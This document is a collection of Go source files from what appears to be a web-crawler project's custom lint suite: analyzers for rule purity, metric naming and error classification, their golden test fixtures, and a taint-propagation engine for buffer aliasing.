// checkStreamPurity enforces the streaming contract on every Rule
// composite literal: with TreeRequired false (or absent), the Check
// and Stream field functions must stay tokenizer-only.
func checkStreamPurity(pass *analysis.Pass) {
	s := &purityScan{
		pass:  pass,
		decls: make(map[types.Object]*ast.FuncDecl),
		memo:  make(map[types.Object]bool),
	}
	for _, f := range pass.Pkg.Syntax {
		for _, d := range f.Decls {
			if fd, ok := d.(*ast.FuncDecl); ok {
				if obj := pass.ObjectOf(fd.Name); obj != nil {
					s.decls[obj] = fd
				}
			}
		}
	}
	for _, f := range pass.Pkg.Syntax {
		ast.Inspect(f, func(n ast.Node) bool {
			lit, ok := n.(*ast.CompositeLit)
			if ok && namedTypeName(pass.TypeOf(lit)) == "Rule" {
				s.checkRuleLiteral(lit)
			}
			return true
		})
	}
}

type purityScan struct {
	pass  *analysis.Pass
	decls map[types.Object]*ast.FuncDecl
	// memo caches funcTouchesTree per function object; a function is
	// pre-marked false while being scanned, which doubles as the cycle
	// guard for mutual recursion.
	memo map[types.Object]bool
}

func (s *purityScan) checkRuleLiteral(lit *ast.CompositeLit) {
	fields := make(map[string]ast.Expr)
	for _, el := range lit.Elts {
		kv, ok := el.(*ast.KeyValueExpr)
		if !ok {
			continue
		}
		if id, ok := kv.Key.(*ast.Ident); ok {
			fields[id.Name] = kv.Value
		}
	}
	if tr, ok := fields["TreeRequired"]; ok {
		id, isIdent := tr.(*ast.Ident)
		if !isIdent || id.Name != "false" {
			return // true, or computed: not a streaming rule we can judge
		}
	}
	name := "rule"
	if id, ok := fields["ID"].(*ast.BasicLit); ok {
		name = "rule " + id.Value
	}
	seen := make(map[token.Pos]bool)
	for _, field := range []string{"Check", "Stream"} {
		expr, ok := fields[field]
		if !ok {
			continue
		}
		s.findTreeAccess(expr, func(pos token.Pos, what string) {
			if seen[pos] {
				return
			}
			seen[pos] = true
			s.pass.Reportf(pos,
				"%s is streaming (TreeRequired is false) but its %s %s; streaming rules run without a parse tree", name, field, what)
		})
	}
}

// findTreeAccess reports every tree read reachable from root: direct
// Doc/Events field reads on Page or Result, EventsByKind and
// eventFindings calls, and references to package-local functions that
// themselves touch the tree (transitively).
func (s *purityScan) findTreeAccess(root ast.Node, report func(pos token.Pos, what string)) {
	ast.Inspect(root, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.SelectorExpr:
			if isTreeField(s.pass, n) {
				report(n.Sel.Pos(), "reads ."+n.Sel.Name)
			}
		case *ast.CallExpr:
			if fn := s.pass.Callee(n); fn != nil {
				switch fn.Name() {
				case "EventsByKind":
					report(n.Fun.Pos(), "calls EventsByKind")
				case "eventFindings":
					report(n.Fun.Pos(), "calls eventFindings, a tree-event helper")
				}
			}
		case *ast.Ident:
			obj := s.pass.ObjectOf(n)
			if _, ok := s.decls[obj]; ok && s.funcTouchesTree(obj) {
				report(n.Pos(), "references "+n.Name+", which touches the parse tree")
			}
		}
		return true
	})
}

// funcTouchesTree reports whether the package-local function behind obj
// reads the parse tree, directly or through other local functions.
func (s *purityScan) funcTouchesTree(obj types.Object) bool {
	if v, ok := s.memo[obj]; ok {
		return v
	}
	s.memo[obj] = false
	fd := s.decls[obj]
	if fd == nil || fd.Body == nil {
		return false
	}
	touched := false
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		if touched {
			return false
		}
		switch n := n.(type) {
		case *ast.SelectorExpr:
			if isTreeField(s.pass, n) {
				touched = true
			}
		case *ast.CallExpr:
			if fn := s.pass.Callee(n); fn != nil && fn.Name() == "EventsByKind" {
				touched = true
			}
		case *ast.Ident:
			if o := s.pass.ObjectOf(n); o != obj {
				if _, ok := s.decls[o]; ok && s.funcTouchesTree(o) {
					touched = true
				}
			}
		}
		return !touched
	})
	s.memo[obj] = touched
	return touched
}

// isTreeField matches Doc/Events selections on core.Page (or the
// embedded htmlparse.Result it promotes them from).
func isTreeField(pass *analysis.Pass, sel *ast.SelectorExpr) bool {
	if sel.Sel.Name != "Doc" && sel.Sel.Name != "Events" {
		return false
	}
	name := namedTypeName(pass.TypeOf(sel.X))
	return name == "Page" || name == "Result"
}

// namedTypeName returns the name of t's (pointer-stripped) named type,
// or "" when t is not a named type.
func namedTypeName(t types.Type) string {
	for {
		p, ok := t.(*types.Pointer)
		if !ok {
			break
		}
		t = p.Elem()
	}
	if n, ok := t.(*types.Named); ok {
		return n.Obj().Name()
	}
	return ""
}

// checkGlobalWrite flags an assignment whose target resolves to a
// package-level variable (directly or through an index/field/deref
// chain rooted at one).
func checkGlobalWrite(pass *analysis.Pass, lhs ast.Expr) {
	for {
		switch e := lhs.(type) {
		case *ast.ParenExpr:
			lhs = e.X
		case *ast.IndexExpr:
			lhs = e.X
		case *ast.StarExpr:
			lhs = e.X
		case *ast.SelectorExpr:
			// pkg.Var or global.Field: the selected identifier decides.
			if obj := pass.ObjectOf(e.Sel); isPackageLevelVar(obj) {
				pass.Reportf(lhs.Pos(),
					"rules must be deterministic: writing package-level state (%s) makes findings depend on evaluation order", e.Sel.Name)
				return
			}
			lhs = e.X
		case *ast.Ident:
			if obj := pass.ObjectOf(e); isPackageLevelVar(obj) {
				pass.Reportf(lhs.Pos(),
					"rules must be deterministic: writing package-level state (%s) makes findings depend on evaluation order", e.Name)
			}
			return
		default:
			return
		}
	}
}

func isPackageLevelVar(obj types.Object) bool {
	v, ok := obj.(*types.Var)
	return ok && v.Pkg() != nil && v.Parent() == v.Pkg().Scope()
}

// checkMapRange flags `for ... := range m` over a map whose body builds
// a slice with append, unless the enclosing function also sorts —
// map iteration order is randomized, so unsorted accumulation leaks
// nondeterminism into rule output.
func checkMapRange(pass *analysis.Pass, n *ast.RangeStmt, stack []ast.Node) {
	t := pass.TypeOf(n.X)
	if t == nil {
		return
	}
	if _, ok := t.Underlying().(*types.Map); !ok {
		return
	}
	if !containsAppend(pass, n.Body) {
		return // order-insensitive aggregation (counting, any-of checks)
	}
	if fn := analysis.EnclosingFunc(stack); fn != nil && containsSortCall(pass, fn) {
		return // accumulated then sorted: deterministic
	}
	pass.Reportf(n.Pos(),
		"map iteration order is randomized: appending inside a map range without sorting afterwards makes the output order nondeterministic")
}

func containsAppend(pass *analysis.Pass, body ast.Node) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
			if b, ok := pass.ObjectOf(id).(*types.Builtin); ok && b.Name() == "append" {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

func containsSortCall(pass *analysis.Pass, fn ast.Node) bool {
	found := false
	ast.Inspect(fn, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if f := pass.Callee(call); f != nil && f.Pkg() != nil &&
			(f.Pkg().Path() == "sort" || f.Pkg().Path() == "slices") {
			found = true
			return false
		}
		return true
	})
	return found
}
