// Package lint aggregates the repo's custom analyzers.
//
// Each analyzer encodes one invariant the ordinary toolchain cannot
// check — parser/table coverage, failure classification, cancellable
// waiting, metric naming, and rule determinism. cmd/hvlint drives the
// full set; tests exercise each against a golden testdata tree.
package lint

import (
	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/ctxsleep"
	"github.com/hvscan/hvscan/internal/lint/errclass"
	"github.com/hvscan/hvscan/internal/lint/obsnames"
	"github.com/hvscan/hvscan/internal/lint/rulepurity"
	"github.com/hvscan/hvscan/internal/lint/specerrors"
)

// Analyzers returns the full suite in a stable order.
func Analyzers() []*analysis.Analyzer {
	return []*analysis.Analyzer{
		ctxsleep.Analyzer,
		errclass.Analyzer,
		obsnames.Analyzer,
		rulepurity.Analyzer,
		specerrors.Analyzer,
	}
}
