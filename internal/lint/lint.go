// Package lint aggregates the repo's custom analyzers.
//
// Each analyzer encodes one invariant the ordinary toolchain cannot
// check — parser/table coverage, failure classification, cancellable
// waiting, metric naming, rule determinism, zero-copy view lifetimes,
// hot-path allocation freedom, and goroutine hygiene. cmd/hvlint
// drives the full set; tests exercise each against a golden testdata
// tree.
package lint

import (
	"github.com/hvscan/hvscan/internal/lint/alloczone"
	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/ctxsleep"
	"github.com/hvscan/hvscan/internal/lint/errclass"
	"github.com/hvscan/hvscan/internal/lint/goroleak"
	"github.com/hvscan/hvscan/internal/lint/obsnames"
	"github.com/hvscan/hvscan/internal/lint/rulepurity"
	"github.com/hvscan/hvscan/internal/lint/specerrors"
	"github.com/hvscan/hvscan/internal/lint/zerocopy"
)

// Analyzers returns the full suite in a stable order.
func Analyzers() []*analysis.Analyzer {
	return []*analysis.Analyzer{
		alloczone.Analyzer,
		ctxsleep.Analyzer,
		errclass.Analyzer,
		goroleak.Analyzer,
		obsnames.Analyzer,
		rulepurity.Analyzer,
		specerrors.Analyzer,
		zerocopy.Analyzer,
	}
}
