// Package obsnames enforces the observability layer's metric naming
// and registration conventions.
//
// Invariant (DESIGN.md "Observability"): metric names are part of the
// measurement contract — dashboards, the perf-trajectory bench files,
// and hvreport all key on them — so every name passed to an
// obs.Registry registration method must be a compile-time constant in
// Prometheus snake_case with a subsystem prefix ("crawler_...",
// "core_..."), optionally carrying an inline label set. Dynamic series
// go through the Vec constructors, whose base name is still literal.
// Registration happens at constructor time: a registration inside a
// loop body is either a hidden per-iteration allocation or a dynamic
// name in disguise, and both are flagged.
package obsnames

import (
	"go/ast"
	"go/constant"
	"go/types"
	"regexp"
	"strings"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// registerMethods maps obs.Registry method names to the index of their
// metric-name argument.
var registerMethods = map[string]bool{
	"Counter":      true,
	"Gauge":        true,
	"Histogram":    true,
	"CounterVec":   true,
	"HistogramVec": true,
}

// vecMethods additionally take a label-name argument at index 1.
var vecMethods = map[string]bool{"CounterVec": true, "HistogramVec": true}

var (
	baseRE  = regexp.MustCompile(`^[a-z][a-z0-9]*(_[a-z0-9]+)+$`)
	plainRE = regexp.MustCompile(`^[a-z][a-z0-9]*$`)
	labelRE = regexp.MustCompile(`^[a-z_][a-z0-9_]*="[^"{}]*"(,[a-z_][a-z0-9_]*="[^"{}]*")*$`)
)

// Analyzer checks metric registration call sites everywhere except
// inside the obs implementation itself.
var Analyzer = &analysis.Analyzer{
	Name: "obsnames",
	Doc: "metric names must be compile-time constants in snake_case with a " +
		"subsystem prefix, and registration must happen at constructor time, " +
		"never inside a loop body",
	Run: run,
}

func run(pass *analysis.Pass) error {
	if analysis.HasPathSuffix(pass.Pkg.ImportPath, "internal/obs") {
		return nil // the implementation validates at runtime
	}
	for _, f := range pass.Pkg.Syntax {
		analysis.WalkStack(f, func(n ast.Node, stack []ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn := pass.Callee(call)
			if fn == nil || fn.Pkg() == nil ||
				!analysis.HasPathSuffix(fn.Pkg().Path(), "internal/obs") ||
				!registerMethods[fn.Name()] || !isRegistryMethod(fn) {
				return true
			}
			if analysis.InsideLoop(stack) {
				pass.Reportf(call.Pos(),
					"metric registered inside a loop body; register once at constructor time (use the Vec constructors for fixed label sets)")
			}
			if len(call.Args) == 0 {
				return true
			}
			checkName(pass, call.Args[0], fn.Name())
			if vecMethods[fn.Name()] && len(call.Args) > 1 {
				checkLabelName(pass, call.Args[1])
			}
			return true
		})
	}
	return nil
}

// isRegistryMethod reports whether fn is a method on obs.Registry.
func isRegistryMethod(fn *types.Func) bool {
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	t := sig.Recv().Type()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, ok := t.(*types.Named)
	return ok && named.Obj().Name() == "Registry"
}

// checkName validates the metric name argument.
func checkName(pass *analysis.Pass, arg ast.Expr, method string) {
	name, ok := constString(pass, arg)
	if !ok {
		pass.Reportf(arg.Pos(),
			"metric name must be a compile-time constant (fmt.Sprintf hides the series name from grep and review); for per-label series use the Vec constructors")
		return
	}
	base, labels := splitName(name)
	if vecMethods[method] && strings.Contains(name, "{") {
		pass.Reportf(arg.Pos(),
			"Vec base name %q must not carry an inline label set; the label is the second argument", name)
		return
	}
	switch {
	case baseRE.MatchString(base):
		// well-formed
	case plainRE.MatchString(base):
		pass.Reportf(arg.Pos(),
			"metric name %q lacks a subsystem prefix; name it <subsystem>_%s", base, base)
		return
	default:
		pass.Reportf(arg.Pos(),
			"metric name %q is not snake_case ([a-z0-9_], starting with a letter)", base)
		return
	}
	if labels != "" && !labelRE.MatchString(labels) {
		pass.Reportf(arg.Pos(),
			`metric label set %q is malformed; want key="value"[,key="value"...]`, labels)
	}
}

// checkLabelName validates the Vec label-name argument.
func checkLabelName(pass *analysis.Pass, arg ast.Expr) {
	label, ok := constString(pass, arg)
	if !ok {
		pass.Reportf(arg.Pos(), "metric label name must be a compile-time constant")
		return
	}
	if !plainRE.MatchString(label) && !baseRE.MatchString(label) {
		pass.Reportf(arg.Pos(), "metric label name %q is not snake_case", label)
	}
}

// splitName separates "base{labels}" (mirrors obs.splitName).
func splitName(name string) (base, labels string) {
	i := strings.IndexByte(name, '{')
	if i < 0 {
		return name, ""
	}
	return name[:i], strings.TrimSuffix(strings.TrimPrefix(name[i:], "{"), "}")
}

// constString evaluates e as a compile-time string.
func constString(pass *analysis.Pass, e ast.Expr) (string, bool) {
	tv, ok := pass.Pkg.Info.Types[e]
	if !ok || tv.Value == nil || tv.Value.Kind() != constant.String {
		return "", false
	}
	return constant.StringVal(tv.Value), true
}
