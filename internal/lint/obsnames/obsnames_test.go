package obsnames_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/obsnames"
)

func TestObsNames(t *testing.T) {
	analysis.RunTest(t, "testdata", obsnames.Analyzer)
}
