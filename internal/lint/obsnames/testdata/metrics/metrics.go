// Package metrics exercises every naming and registration rule.
package metrics

import (
	"fmt"

	"example.com/internal/obs"
)

func register(reg *obs.Registry, names []string, lbl string) {
	reg.Counter("crawler_pages_total")
	reg.Counter(`crawler_pages_total{stage="fetch"}`)
	reg.Histogram("crawler_fetch_seconds", nil)
	reg.CounterVec("crawler_skips_total", "reason", "dup", "oversize")

	reg.Counter("pages")                              // want `lacks a subsystem prefix`
	reg.Counter("crawlerPages_total")                 // want `is not snake_case`
	reg.Counter(fmt.Sprintf("crawler_%s_total", "x")) // want `metric name must be a compile-time constant`
	reg.Counter(`crawler_pages_total{stage=fetch}`)   // want `metric label set .* is malformed`

	reg.CounterVec(`crawler_stage_total{mode="x"}`, "stage") // want `must not carry an inline label set`
	reg.CounterVec("crawler_stage_total", "Stage")           // want `metric label name "Stage" is not snake_case`
	reg.HistogramVec("crawler_stage_seconds", lbl, nil)      // want `metric label name must be a compile-time constant`

	for _, n := range names {
		reg.Counter("crawler_" + n + "_total") // want `registered inside a loop body` `must be a compile-time constant`
	}

	//lint:ignore obsnames registry self-test needs a dynamic name
	reg.Counter(fmt.Sprintf("crawler_%s_total", "suppressed"))
}
