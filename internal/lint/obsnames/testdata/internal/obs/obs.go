// Package obs mirrors the registry surface the analyzer recognizes.
// Registration calls inside this package are exempt: the real
// implementation validates names at runtime.
package obs

type Counter struct{}
type Gauge struct{}
type Histogram struct{}

type Registry struct{}

func (r *Registry) Counter(name string) *Counter { return new(Counter) }

func (r *Registry) Gauge(name string) *Gauge { return new(Gauge) }

func (r *Registry) Histogram(name string, bounds []float64) *Histogram { return new(Histogram) }

func (r *Registry) CounterVec(base, label string, values ...string) map[string]*Counter {
	return nil
}

func (r *Registry) HistogramVec(base, label string, bounds []float64, values ...string) map[string]*Histogram {
	return nil
}
