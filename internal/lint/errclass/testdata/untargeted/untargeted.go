// Package untargeted sits outside the transport boundary; its errors
// never cross the retry loop, so the analyzer leaves it alone.
package untargeted

import (
	"errors"
	"fmt"
)

func plain() error {
	return errors.New("fine here")
}

func formatted(n int) error {
	return fmt.Errorf("fine here too: %d", n)
}
