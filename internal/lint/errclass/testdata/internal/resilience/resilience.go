// Package resilience is the classifier stub the fixture packages wrap
// their errors with.
package resilience

func Retryable(err error) error { return err }
func Permanent(err error) error { return err }
func Fatal(err error) error     { return err }
