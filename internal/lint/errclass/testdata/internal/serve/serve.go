// Package serve is a targeted serving-layer package: its errors pick
// HTTP status codes and feed the archive breaker, so every constructed
// error must carry a resilience class.
package serve

import (
	"errors"
	"fmt"
)

// ErrBodyTooLarge is a package-level sentinel: handlers map it to a
// status code by identity, so the declaration itself is fine.
var ErrBodyTooLarge = errors.New("request body exceeds the cap")

func handlerInlineError() error {
	return errors.New("bad request") // want `errors.New inside a function builds an unclassified error`
}

func handlerErrorfNoWrap(tenant string) error {
	return fmt.Errorf("tenant %s throttled", tenant) // want `fmt.Errorf without %w builds an unclassified error`
}

func handlerErrorfWrapped(err error) error {
	return fmt.Errorf("reading request body: %w", err)
}
