// Package commoncrawl is a targeted transport package: every error it
// constructs must carry a resilience class.
package commoncrawl

import (
	"errors"
	"fmt"

	"example.com/internal/resilience"
)

// ErrGone is a package-level sentinel: call sites classify it when
// they wrap it, so the declaration itself is fine.
var ErrGone = errors.New("capture gone")

func freshUnclassified() error {
	return errors.New("boom") // want `errors.New inside a function builds an unclassified error`
}

func errorfNoWrap(name string) error {
	return fmt.Errorf("open %s failed", name) // want `fmt.Errorf without %w builds an unclassified error`
}

func errorfDynamic(format string) error {
	return fmt.Errorf(format, 1) // want `fmt.Errorf with a non-constant format cannot be checked`
}

func errorfWrapped(err error) error {
	return fmt.Errorf("read range: %w", err)
}

func classifiedErrorf() error {
	return resilience.Permanent(fmt.Errorf("filename escapes the archive root"))
}

func classifiedNew() error {
	return resilience.Retryable(errors.New("transient listing failure"))
}

func suppressed() error {
	//lint:ignore errclass exercised by the chaos harness, class irrelevant
	return errors.New("chaos")
}
