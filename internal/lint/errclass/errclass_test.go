package errclass_test

import (
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
	"github.com/hvscan/hvscan/internal/lint/errclass"
)

func TestErrClass(t *testing.T) {
	analysis.RunTest(t, "testdata", errclass.Analyzer)
}
