// Package errclass enforces the failure model's classification
// contract in the transport packages.
//
// Invariant (DESIGN.md "Failure model"): every error leaving
// internal/commoncrawl or internal/crawler must be classifiable by
// resilience.Classify — explicitly marked (resilience.Retryable /
// Permanent / Fatal), carrying an HTTP status (StatusCoder), or
// wrapping a classified error with %w so the mark survives the chain.
// An unclassified fmt.Errorf silently falls into the optimistic
// retryable default, which turns permanent faults (bad filename,
// malformed record) into wasted retry budget on a multi-day crawl.
package errclass

import (
	"go/ast"
	"go/constant"
	"strings"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

// targetSuffixes are the packages whose errors cross a retry boundary:
// the transport packages feed the pipeline's retry budget, and the
// serving layer's errors drive HTTP status mapping plus the archive
// breaker's failure accounting — an unclassified error there turns
// into a wrong status code or a breaker miscount.
var targetSuffixes = []string{"internal/commoncrawl", "internal/crawler", "internal/serve"}

// classifiers are the resilience marking functions; wrapping a freshly
// constructed error in one of them classifies it.
var classifiers = map[string]bool{"Retryable": true, "Permanent": true, "Fatal": true}

// Analyzer flags unclassified error construction in the transport
// packages.
var Analyzer = &analysis.Analyzer{
	Name: "errclass",
	Doc: "errors constructed in internal/commoncrawl, internal/crawler, and " +
		"internal/serve must carry a resilience class: a mark " +
		"(resilience.Retryable/Permanent/Fatal), a StatusCoder implementation, " +
		"or a %w wrap of an already-classified error",
	Run: run,
}

func run(pass *analysis.Pass) error {
	targeted := false
	for _, s := range targetSuffixes {
		if analysis.HasPathSuffix(pass.Pkg.ImportPath, s) {
			targeted = true
			break
		}
	}
	if !targeted {
		return nil
	}
	for _, f := range pass.Pkg.Syntax {
		analysis.WalkStack(f, func(n ast.Node, stack []ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			switch {
			case pass.CalleeIn(call, "errors", "New"):
				if analysis.EnclosingFunc(stack) == nil {
					return true // package-level sentinel: classified at wrap time
				}
				if wrappedByClassifier(pass, stack) {
					return true
				}
				pass.Reportf(call.Pos(),
					"errors.New inside a function builds an unclassified error; use a package-level sentinel or wrap it with resilience.Retryable/Permanent/Fatal")
			case pass.CalleeIn(call, "fmt", "Errorf"):
				if len(call.Args) == 0 {
					return true
				}
				format, known := constString(pass, call.Args[0])
				if known && strings.Contains(format, "%w") {
					return true // the chain keeps the inner error's class
				}
				if wrappedByClassifier(pass, stack) {
					return true
				}
				if !known {
					pass.Reportf(call.Pos(),
						"fmt.Errorf with a non-constant format cannot be checked for %%w; classify it explicitly with resilience.Retryable/Permanent/Fatal")
					return true
				}
				pass.Reportf(call.Pos(),
					"fmt.Errorf without %%w builds an unclassified error; wrap a classified error with %%w or mark it with resilience.Retryable/Permanent/Fatal")
			}
			return true
		})
	}
	return nil
}

// wrappedByClassifier reports whether the node under inspection is a
// direct argument of a resilience classifier call.
func wrappedByClassifier(pass *analysis.Pass, stack []ast.Node) bool {
	if len(stack) == 0 {
		return false
	}
	parent, ok := stack[len(stack)-1].(*ast.CallExpr)
	if !ok {
		return false
	}
	fn := pass.Callee(parent)
	if fn == nil || fn.Pkg() == nil {
		return false
	}
	return analysis.HasPathSuffix(fn.Pkg().Path(), "internal/resilience") && classifiers[fn.Name()]
}

// constString evaluates e as a compile-time string.
func constString(pass *analysis.Pass, e ast.Expr) (string, bool) {
	tv, ok := pass.Pkg.Info.Types[e]
	if !ok || tv.Value == nil || tv.Value.Kind() != constant.String {
		return "", false
	}
	return constant.StringVal(tv.Value), true
}
