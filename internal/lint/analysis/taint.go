package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
)

// This file is the shared dataflow core behind the escape/retention
// summaries (summary.go) and the zerocopy analyzer: a per-function
// taint propagation over bitmasks. The caller decides what the bits
// mean — parameter indices for summaries, view-source indices for
// zerocopy — and the engine answers where those values can end up.
//
// The propagation rules encode the repo's view contract (DESIGN.md
// §15): string values are immutable and, when produced by the parser,
// point into the GC-managed input buffer — so selecting a string field
// out of a tainted aggregate yields a safe copy of the header, and the
// taint drops. Slices, pointers, maps and anything containing them
// share backing memory, so taint follows. Deep copies (string(b),
// []byte(s), strings/bytes.Clone) clear taint; subslicing, field access
// on reference-carrying results, composite literals and unsafe
// reslicing keep it.
//
// Dynamic calls (function values, interface methods) are treated
// optimistically: no taint out, no escape in. The analyzers that build
// on the engine document that hole; it is the same trade the rest of
// hvlint makes to stay dependency-free and fast.

// Mask is a taint bitset; the meaning of each bit is the caller's.
type Mask uint64

// SinkKind classifies where a tainted value escaped to.
type SinkKind int

const (
	// SinkGlobal: stored into a package-level variable (directly or
	// through a field/index/deref chain rooted at one).
	SinkGlobal SinkKind = iota
	// SinkChanSend: sent on a channel.
	SinkChanSend
	// SinkReturn: returned from the analyzed function.
	SinkReturn
	// SinkFieldStore: stored through a pointer or into non-local memory
	// (a field or element of something the function did not create).
	SinkFieldStore
	// SinkArgEscape: passed to a function whose summary says that
	// parameter escapes.
	SinkArgEscape
)

// Sink is one escape event of tainted data.
type Sink struct {
	Kind SinkKind
	Pos  token.Pos
	Mask Mask

	// Target is the package-level variable (SinkGlobal) or the struct
	// field object written through (SinkFieldStore, when resolvable).
	Target types.Object
	// FieldSel is the selector written through for SinkFieldStore, so
	// consumers can resolve a FieldKey.
	FieldSel *ast.SelectorExpr
	// LHS is the full left-hand side of the store (SinkGlobal and
	// SinkFieldStore), for consumers that reason about what the store
	// was rooted at (zerocopy's owner-internal exemption).
	LHS ast.Expr
	// Callee and ArgIndex identify the escaping call parameter for
	// SinkArgEscape (ArgIndex follows the summary convention: receiver
	// first, then declared parameters).
	Callee   *types.Func
	ArgIndex int
}

// Flow configures one RunFlow invocation.
type Flow struct {
	Info *types.Info
	// SeedExpr, if set, returns extra taint originated by an expression
	// itself (zerocopy's view sources). It must be pure: the engine
	// evaluates expressions repeatedly.
	SeedExpr func(e ast.Expr) Mask
	// Summaries, if set, resolves callee escape/retention summaries for
	// cross-function propagation.
	Summaries func(fn *types.Func) *FuncSummary
}

type flowState struct {
	cfg   *Flow
	fd    *ast.FuncDecl
	taint map[types.Object]Mask
}

// FlowResult is the stabilized dataflow of one RunFlow call: MaskOf
// evaluates any expression of the analyzed function against the final
// taint state (analyzers use it to classify their sources after the
// fixpoint).
type FlowResult struct {
	fl *flowState
}

// MaskOf returns the taint carried by e under the final flow state.
func (r *FlowResult) MaskOf(e ast.Expr) Mask { return r.fl.exprMask(e) }

// RunFlow propagates taint from seeds (and cfg.SeedExpr sources)
// through fd's body to a fixpoint, then reports every escape of tainted
// data through sink.
func RunFlow(cfg *Flow, fd *ast.FuncDecl, seeds map[types.Object]Mask, sink func(Sink)) *FlowResult {
	fl := &flowState{cfg: cfg, fd: fd, taint: make(map[types.Object]Mask, len(seeds))}
	for obj, m := range seeds {
		fl.taint[obj] = m
	}
	if fd.Body == nil {
		return &FlowResult{fl: fl}
	}
	// Propagation to fixpoint: each pass can only add bits, and the
	// lattice is finite, so this terminates; the iteration cap guards
	// pathological bodies.
	for i := 0; i < 16; i++ {
		if !fl.propagate(fd.Body) {
			break
		}
	}
	if sink != nil {
		fl.findSinks(sink)
	}
	return &FlowResult{fl: fl}
}

func (fl *flowState) obj(e ast.Expr) types.Object {
	id, ok := ast.Unparen(e).(*ast.Ident)
	if !ok {
		return nil
	}
	return fl.cfg.Info.ObjectOf(id)
}

func (fl *flowState) typeOf(e ast.Expr) types.Type { return fl.cfg.Info.TypeOf(e) }

// add records taint on obj, reporting whether anything changed.
func (fl *flowState) add(obj types.Object, m Mask) bool {
	if obj == nil || m == 0 || obj.Name() == "_" {
		return false
	}
	old := fl.taint[obj]
	if old|m == old {
		return false
	}
	fl.taint[obj] = old | m
	return true
}

// propagate runs one dataflow pass over the body, returning whether any
// object gained taint.
func (fl *flowState) propagate(body ast.Node) bool {
	changed := false
	ast.Inspect(body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.AssignStmt:
			for i, lhs := range n.Lhs {
				m := fl.assignedMask(n, i)
				if m == 0 {
					continue
				}
				if obj := fl.obj(lhs); obj != nil {
					changed = fl.add(obj, m) || changed
					continue
				}
				// Store into a field/element of a local value (s.f = v,
				// s[i] = v): the aggregate now carries the taint; escape
				// of the aggregate is caught transitively. Pointer and
				// non-local roots are sinks, handled in findSinks.
				if root := fl.obj(rootExpr(lhs)); root != nil && !isPointerish(root.Type()) && !isPackageLevel(root) {
					changed = fl.add(root, m) || changed
				}
			}
		case *ast.RangeStmt:
			if n.Value != nil {
				if m := fl.exprMask(n.X); m != 0 && CarriesReference(fl.typeOf(n.Value)) {
					changed = fl.add(fl.obj(n.Value), m) || changed
				}
			}
		case *ast.GenDecl:
			for _, spec := range n.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				for i, name := range vs.Names {
					if i < len(vs.Values) {
						if m := fl.exprMask(vs.Values[i]); m != 0 {
							changed = fl.add(fl.cfg.Info.ObjectOf(name), m) || changed
						}
					}
				}
			}
		case *ast.CallExpr:
			// copy(dst, src) moves element memory: shallow for reference
			// elements, so dst inherits src's taint then.
			if fl.isBuiltin(n, "copy") && len(n.Args) == 2 {
				if m := fl.exprMask(n.Args[1]); m != 0 {
					if t, ok := fl.typeOf(n.Args[0]).Underlying().(*types.Slice); ok && CarriesReference(t.Elem()) {
						if root := fl.obj(rootExpr(n.Args[0])); root != nil && !isPackageLevel(root) {
							changed = fl.add(root, m) || changed
						}
					}
				}
			}
		}
		return true
	})
	return changed
}

// assignedMask is the taint flowing into the i'th LHS of assign.
func (fl *flowState) assignedMask(assign *ast.AssignStmt, i int) Mask {
	if len(assign.Rhs) == 1 && len(assign.Lhs) > 1 {
		// Multi-value call or map/type-assert comma-ok: the engine does
		// not track which result aliases what, so every LHS gets the
		// whole mask.
		return fl.exprMask(assign.Rhs[0])
	}
	if i < len(assign.Rhs) {
		return fl.exprMask(assign.Rhs[i])
	}
	return 0
}

// exprMask computes the taint carried by the value of e.
func (fl *flowState) exprMask(e ast.Expr) Mask {
	var m Mask
	switch e := e.(type) {
	case *ast.Ident:
		if obj := fl.cfg.Info.ObjectOf(e); obj != nil {
			m = fl.taint[obj]
		}
	case *ast.ParenExpr:
		m = fl.exprMask(e.X)
	case *ast.StarExpr:
		m = fl.exprMask(e.X)
	case *ast.UnaryExpr:
		if e.Op == token.AND || e.Op == token.ARROW {
			m = fl.exprMask(e.X)
		}
	case *ast.SliceExpr:
		// Subslicing always shares backing memory.
		m = fl.exprMask(e.X)
	case *ast.SelectorExpr:
		// Selecting a field keeps taint only when the result can share
		// backing memory; string fields are safe copies by the view
		// contract (they point into the unpooled input buffer).
		if CarriesReference(fl.typeOf(e)) {
			m = fl.exprMask(e.X)
		}
	case *ast.IndexExpr:
		// s[i] copies the element; element types carrying references
		// (Token and its Attr slice) keep the taint, pure-value
		// elements drop it.
		if CarriesReference(fl.typeOf(e)) {
			m = fl.exprMask(e.X)
		}
	case *ast.CompositeLit:
		for _, el := range e.Elts {
			if kv, ok := el.(*ast.KeyValueExpr); ok {
				el = kv.Value
			}
			m |= fl.exprMask(el)
		}
	case *ast.TypeAssertExpr:
		m = fl.exprMask(e.X)
	case *ast.CallExpr:
		m = fl.callMask(e)
	}
	if fl.cfg.SeedExpr != nil {
		m |= fl.cfg.SeedExpr(e)
	}
	return m
}

// callMask is exprMask for call expressions: conversions, builtins,
// unsafe reslicing, and summary-driven return aliasing.
func (fl *flowState) callMask(call *ast.CallExpr) Mask {
	// Type conversion T(x).
	if tv, ok := fl.cfg.Info.Types[call.Fun]; ok && tv.IsType() && len(call.Args) == 1 {
		return fl.conversionMask(tv.Type, call.Args[0])
